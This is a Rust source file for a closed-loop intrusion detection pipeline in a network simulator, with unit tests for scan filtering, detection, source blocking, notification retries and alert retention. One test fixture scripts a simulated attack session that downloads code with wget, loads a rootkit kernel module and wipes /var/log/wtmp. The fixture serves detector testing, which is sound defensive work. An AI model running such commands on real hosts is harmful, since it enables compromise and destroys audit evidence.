//! The in-line detection pipeline (Fig. 4).
//!
//! [`PipelineSink`] plugs into the simulation engine as an [`ActionSink`]:
//! for every action it runs monitors → symbolization → repeated-scan
//! filter → online detectors, and on a detection executes the response —
//! blocking the attacker source at the BHR and notifying operators. The
//! BHR handle is shared with the border filter, so a block takes effect on
//! the *next* flow from that source: a genuinely closed loop.
//!
//! Since the stage-API redesign the sink is a thin adapter: the stage
//! chain itself lives in [`crate::stage`] (shared with the streaming
//! executors) and is assembled by
//! [`PipelineBuilder`](crate::stage::PipelineBuilder); the sink holds the
//! monitor fleet and feeds the chain the records each action produces
//! under the engine's live [`EventCtx`].

use alertlib::alert::Alert;
use bhr::api::BhrHandle;
use simnet::action::Action;
use simnet::engine::{ActionSink, EventCtx};
use simnet::event::EventQueue;
use telemetry::monitor::Monitor;
use telemetry::record::LogRecord;

use crate::report::RunReport;
use crate::stage::builder::BuiltPipeline;
use crate::stage::executor::InlineCore;

/// The closed-loop pipeline sink: stage counters + the detection loop.
/// Assemble one with [`PipelineBuilder::build_sink`](crate::stage::PipelineBuilder::build_sink).
pub struct PipelineSink {
    /// The monitor fleet, in registration order (§III-B: one action can
    /// be witnessed by several monitors).
    monitors: Vec<Box<dyn Monitor>>,
    core: InlineCore,
    pub report: RunReport,
    // Reused scratch buffer (alloc-free steady state).
    records_scratch: Vec<LogRecord>,
}

impl PipelineSink {
    pub(crate) fn from_built(
        monitors: Vec<Box<dyn Monitor>>,
        built: BuiltPipeline,
    ) -> PipelineSink {
        PipelineSink {
            monitors,
            core: InlineCore::new(built),
            report: RunReport::default(),
            records_scratch: Vec::with_capacity(8),
        }
    }

    /// The shared BHR handle (also used by the border filter).
    pub fn bhr(&self) -> &BhrHandle {
        self.core.response.bhr()
    }

    /// Post-filter alerts retained for analysis (capped drop-oldest; see
    /// [`AlertRetention`](crate::stage::AlertRetention) and the
    /// `alert_retention` tuning knob).
    pub fn retained_alerts(&self) -> impl Iterator<Item = &Alert> {
        self.core.retention.iter()
    }

    /// Alerts not retained because the retention cap was exceeded.
    pub fn alerts_dropped(&self) -> u64 {
        self.core.retention.dropped()
    }

    /// Alerts not retained because retention is disabled (cap 0).
    pub fn alerts_discarded(&self) -> u64 {
        self.core.retention.discarded()
    }

    /// Finalize counters into the report (router stats are filled by the
    /// caller who owns the engine). Deliveries still waiting for a retry
    /// are drained first, so none is silently dropped.
    pub fn finish(&mut self) -> RunReport {
        self.core.flush();
        self.report
            .notifications
            .append(&mut self.core.notifications);
        self.report.filter = self.core.filter.stats();
        self.report.bhr = self.bhr().stats();
        self.report.blocked_sources = self.core.response.blocked_sources();
        self.report.alerts_dropped = self.core.retention.dropped();
        self.report.alerts_discarded = self.core.retention.discarded();
        self.report.clone()
    }
}

impl ActionSink for PipelineSink {
    fn on_action(&mut self, ctx: &EventCtx<'_>, action: &Action, _queue: &mut EventQueue<Action>) {
        self.report.actions += 1;
        self.records_scratch.clear();
        for m in &mut self.monitors {
            m.observe(ctx, action, &mut self.records_scratch);
        }
        // Responses (block install time, TTL anchor, notification time)
        // are stamped with the engine's event time, exactly as the
        // pre-redesign sink did.
        self.core
            .process_records_at(Some(ctx.time), &mut self.records_scratch, |_| {});
        // Mirror the core counters so the public `report` stays live
        // mid-run, as it always was.
        self.report.stats = self.core.stats;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::OperatorNotification;
    use crate::stage::{NotifyBackend, PipelineBuilder};
    use alertlib::symbolize::{Symbolizer, SymbolizerConfig};
    use bhr::retry::BlockError;
    use simnet::engine::Engine;
    use simnet::flow::{Flow, FlowId};
    use simnet::intern::SymScope;
    use simnet::time::SimTime;
    use simnet::topology::NcsaTopologyBuilder;
    use telemetry::hostmon::HostMonitor;
    use telemetry::zeek::{ZeekConfig, ZeekMonitor};

    /// The default stages (toy-model tagger) blocking on detection.
    fn sink() -> PipelineSink {
        PipelineBuilder::new()
            .block_on_detection(true, None)
            .build_sink(vec![
                Box::new(ZeekMonitor::new(ZeekConfig::default(), SymScope::global())),
                Box::new(HostMonitor::new(SymScope::global())),
            ])
    }

    #[test]
    fn scan_flood_is_filtered_not_detected() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..500u64 {
            let t = SimTime::from_secs(i);
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    "103.102.1.1".parse().unwrap(),
                    format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
                    22,
                )),
            );
        }
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.actions, 500);
        assert!(report.stats.alerts >= 500, "each probe symbolizes");
        assert!(
            report.stats.admitted < 20,
            "scan flood must collapse: {}",
            report.stats.admitted
        );
        assert_eq!(
            report.stats.detections, 0,
            "scans alone must not trigger preemption"
        );
        assert_eq!(
            s.retained_alerts().count() as u64 + s.alerts_dropped(),
            report.stats.admitted,
            "retention accounts for every admitted alert"
        );
    }

    /// A malicious host session: process records that symbolize into the
    /// S1 chain for one user.
    fn s1_chain_engine() -> Engine {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        let host = simnet::topology::HostId(0);
        let cmds = [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod rootkit.ko",
            "echo 0>/var/log/wtmp",
        ];
        for (i, c) in cmds.iter().enumerate() {
            engine.schedule(
                SimTime::from_secs(10 + i as u64 * 60),
                Action::Exec(simnet::action::ExecAction {
                    host,
                    user: "eve".into(),
                    pid: 100 + i as u32,
                    ppid: 1,
                    exe: "/bin/sh".into(),
                    cmdline: c.to_string(),
                }),
            );
        }
        engine
    }

    #[test]
    fn detection_blocks_source_at_bhr() {
        let mut engine = s1_chain_engine();
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.stats.detections, 1, "S1 chain must be detected once");
        assert_eq!(report.notifications.len(), 1);
        let n = &report.notifications[0];
        assert!(n.message().to_string().contains("preemption"));
        // Host-only alerts carry no src address, so no block is installed —
        // but the notification still fires.
        assert_eq!(report.blocked_sources, 0);
    }

    /// A notification whose first delivery failed is retried when the
    /// sink finishes, as every record-stream executor does: the response
    /// stage never drops one silently.
    #[test]
    fn finish_retries_failed_deliveries() {
        struct FailsOnce(bool);
        impl NotifyBackend for FailsOnce {
            fn try_notify(&mut self, _: &OperatorNotification) -> Result<(), BlockError> {
                if std::mem::replace(&mut self.0, true) {
                    Ok(())
                } else {
                    Err(BlockError::Timeout)
                }
            }
        }
        let mut engine = s1_chain_engine();
        let mut s = PipelineBuilder::new()
            .notify_backend(FailsOnce(false))
            .build_sink(vec![Box::new(HostMonitor::new(SymScope::global()))]);
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.stats.detections, 1);
        assert_eq!(
            report.notifications.len() as u64,
            report.stats.detections,
            "the failed notification is re-delivered"
        );
    }

    #[test]
    fn network_detection_installs_block() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        // Outbound C2-ish: configure symbolizer with a C2 feed.
        let mut cfg = SymbolizerConfig::default();
        cfg.c2_addresses.insert("194.145.22.33".parse().unwrap());
        let mut s = PipelineBuilder::new()
            .symbolizer(Symbolizer::new(cfg))
            .block_on_detection(true, None)
            .build_sink(vec![Box::new(ZeekMonitor::new(
                ZeekConfig::default(),
                SymScope::global(),
            ))]);
        // Repeated C2 beacons from one internal source push its entity
        // posterior over the threshold.
        for i in 0..6u64 {
            let t = SimTime::from_secs(i * 30);
            engine.schedule(
                t,
                Action::Flow(Flow::established(
                    FlowId(i),
                    t,
                    simnet::time::SimDuration::from_secs(2),
                    "141.142.77.10".parse().unwrap(),
                    40_000,
                    "194.145.22.33".parse().unwrap(),
                    443,
                    2_000,
                    500,
                )),
            );
        }
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert!(report.stats.detections >= 1, "beaconing must be detected");
        assert_eq!(report.blocked_sources, 1);
        assert!(s
            .bhr()
            .is_blocked(SimTime::from_secs(600), "141.142.77.10".parse().unwrap()));
    }

    #[test]
    fn retention_cap_bounds_sink_memory() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..50u64 {
            let t = SimTime::from_secs(i * 3600);
            // Distinct sources so the scan filter admits each probe.
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    format!("103.{}.1.1", 1 + i).parse().unwrap(),
                    "141.142.2.7".parse().unwrap(),
                    22,
                )),
            );
        }
        let mut s = PipelineBuilder::new()
            .alert_retention(5)
            .build_sink(vec![Box::new(ZeekMonitor::new(
                ZeekConfig::default(),
                SymScope::global(),
            ))]);
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert!(report.stats.admitted >= 50);
        assert_eq!(s.retained_alerts().count(), 5, "cap enforced");
        assert_eq!(report.alerts_dropped, report.stats.admitted - 5);
    }
}
